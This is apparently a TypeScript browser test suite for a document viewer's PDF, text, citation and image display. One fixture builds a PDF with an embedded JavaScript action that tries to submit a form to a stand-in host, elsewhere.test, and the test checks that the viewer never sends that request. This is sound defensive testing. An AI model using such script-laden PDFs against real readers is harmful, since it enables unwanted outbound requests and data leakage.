import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { helvetica, onePage, pdf, stream, words } from '../intake/hostile/pdf-file.ts';
import { pdfOf } from '../pdf-of.ts';
import { hasChromium, openWeb } from './open-web.ts';

/** A PDF with pages that contain a black square and text, and a script that tries to send a request. */
function pages(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, index) => 5 + 2 * index);
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>',
    `<< /Type /Pages /Kids [${kids.map((kid) => `${kid} 0 R`).join(' ')}] /Count ${count} >>`,
    '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://elsewhere.test/"\\)) >>',
    helvetica,
    ...kids.flatMap((kid, index) => [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents ${kid + 1} 0 R
/Resources << /Font << /F1 4 0 R >> >> /AA << /O 3 0 R >> >>`,
      stream(`0 0 0 rg 50 50 100 100 re f\n${words(`Page ${index + 1}`, 20, 250)}`),
    ]),
  ]);
}

/** The share of black in the lower half of a page, and whether the upper half contains anything. */
const dark = `async (place) => {
  const picture = await createImageBitmap(place);
  const copy = new OffscreenCanvas(picture.width, picture.height).getContext('2d');
  copy.drawImage(picture, 0, 0);
  const { data } = copy.getImageData(0, 0, picture.width, picture.height);
  const found = [0, 0];
  for (let at = 0; at < data.length; at += 4)
    if (data[at] < 50 && data[at + 3] > 200) found[at < data.length / 2 ? 0 : 1] += 1;
  return { upper: found[0] > 0, lower: Math.round((20 * found[1]) / (data.length / 8)) / 20 };
}`;

const drawn = { upper: true, lower: 0.35 };
const blank = { upper: false, lower: 0 };

describe.skipIf(!hasChromium)('the document view', () => {
  it('shows the visible pages and the backlinks of a PDF, and does not run its scripts', async () => {
    const { page, browserErrors, go } = await openWeb(
      {
        'bucket/plan.pdf': pages(40),
        'bucket/broken.pdf': '%PDF-1.7\nnothing',
        'bucket/plan.md': '# Plan\n\nSee [the plan](plan.pdf).\n',
      },
      { path: '/file/bucket/plan.md' },
    );
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.getByRole('link', { name: 'the plan' }).click();
    await page.getByRole('img', { name: 'Page 1 of 40' }).waitFor();
    const at = (number: number) => () =>
      page.evaluate(`(${dark})(document.querySelectorAll('main canvas')[${number - 1}])`);
    await expect.poll(at(1), { timeout: 60_000 }).toEqual(drawn);
    expect(await at(40)()).toEqual(blank);
    await page.getByRole('link', { name: 'bucket/plan.md' }).waitFor();
    await page.getByRole('spinbutton', { name: 'Go to page (of 40)' }).fill('40');
    await page.keyboard.press('Enter');
    await expect.poll(at(40), { timeout: 60_000 }).toEqual(drawn);
    await expect.poll(at(1), { timeout: 60_000 }).toEqual(blank);
    expect(requests.filter((url) => url.includes('elsewhere'))).toEqual([]);

    await go('/file/bucket/broken.pdf');
    await page.getByText('This file cannot be displayed').waitFor();
    await page.getByRole('link', { name: 'Download' }).waitFor();
    expect(browserErrors).toEqual([]);
  });

  it('shows the cited line of a PDF in its text, and the page of that line', async () => {
    const offer = pdfOf('Fourteen cabinets of oak', 'The worktop is made of soapstone');
    const { page, server, browserErrors, go } = await openWeb({ 'bucket/offer.pdf': offer });
    const { search } = server.keepsake;
    await search.prepare('fast');
    await search.indexDocuments({ signal: new AbortController().signal });
    await go('/search?q=soapstone');
    await page.getByText('extracted text, pages 1–2').waitFor();
    await page.getByRole('link', { name: /offer\.pdf/ }).click();
    await page.waitForURL('**/file/bucket/offer.pdf#L7');
    const marked = page.locator('main .bg-mark', { hasText: 'The worktop is made of soapstone' });
    await marked.waitFor();
    expect(await marked.innerText()).toMatch(/^7\s/);
    await page.getByText('Text extracted from the document').waitFor();
    await page.getByRole('button', { name: 'Read', exact: true }).click();
    await page.getByRole('img', { name: 'Page 2 of 2' }).waitFor();
    await page.getByRole('button', { name: 'Text', exact: true }).click();
    await marked.waitFor();
    expect(browserErrors).toEqual([]);
  });

  it('leads from a citation to the line of a PDF', async () => {
    const offer = pdfOf('Fourteen cabinets of oak', 'The worktop is made of soapstone');
    const { page, server, go } = await openWeb({ 'bucket/offer.pdf': offer });
    const files = [{ path: 'vault/bucket/offer.pdf', lines: '7' }];
    server.model.script({ text: 'It is soapstone [1].', calls: [{ tool: 'concat', input: { files } }] });
    await go(`/answers/${await server.ask('Which worktop?')}`);
    await page.getByText('extracted text, page 2').waitFor();
    await page.getByRole('link', { name: 'Line 7' }).click();
    await page.waitForURL('**/file/bucket/offer.pdf#L7');
    const marked = page.locator('main .bg-mark', { hasText: 'The worktop is made of soapstone' });
    await marked.waitFor();
    expect(await marked.innerText()).toMatch(/^7\s/);
  });

  it('shows the text of other documents, or why there is none', async () => {
    const { page, go } = await openWeb(
      { 'page.html': '<p>A worktop of soapstone</p>', 'list.csv': 'item,price\n', 'a.bin': '\0' },
      { path: '/file/page.html' },
    );
    await page.getByText('A worktop of soapstone').waitFor();
    await go('/file/list.csv');
    await page.getByText('item,price').waitFor();
    expect(await page.getByText('Text extracted from the document').count()).toBe(0);
    await go('/file/a.bin');
    await page.getByText('vault/a.bin: it is binary data, not text').waitFor();
    await page.getByRole('link', { name: 'Download' }).waitFor();
  });

  it('shows the pages of a scan that was found by its name, and says that it has no text', async () => {
    const scan = onePage(stream('0 0 0 rg 72 72 200 200 re f'));
    const { page, server, go } = await openWeb({ 'bucket/passport.pdf': scan });
    const { search } = server.keepsake;
    await search.prepare('fast');
    await search.indexDocuments({ signal: new AbortController().signal });
    await go('/search?q=passport');
    await page.getByRole('link', { name: /passport\.pdf/ }).click();
    await page.getByText('the document has no text; if its pages are scans').waitFor();
    await page.getByRole('img', { name: 'Page 1 of 1' }).waitFor();
    expect(await page.getByText('This file cannot be displayed').count()).toBe(0);
  });

  it('shows an image fitted to the page or in full size', async () => {
    const { page } = await openWeb(
      { 'bucket/wide.webp': readFileSync('docs/images/answer-light-1440.webp') },
      { path: '/file/bucket/wide.webp' },
    );
    const width = async (): Promise<number> =>
      (await page.getByRole('img', { name: 'wide.webp' }).boundingBox())?.width ?? 0;
    await expect.poll(width).toBeGreaterThan(300);
    expect(await width()).toBeLessThan(1_100);
    await page.getByRole('button', { name: 'Full size' }).press('Enter');
    await expect.poll(width).toBeGreaterThan(1_400);
  });
});
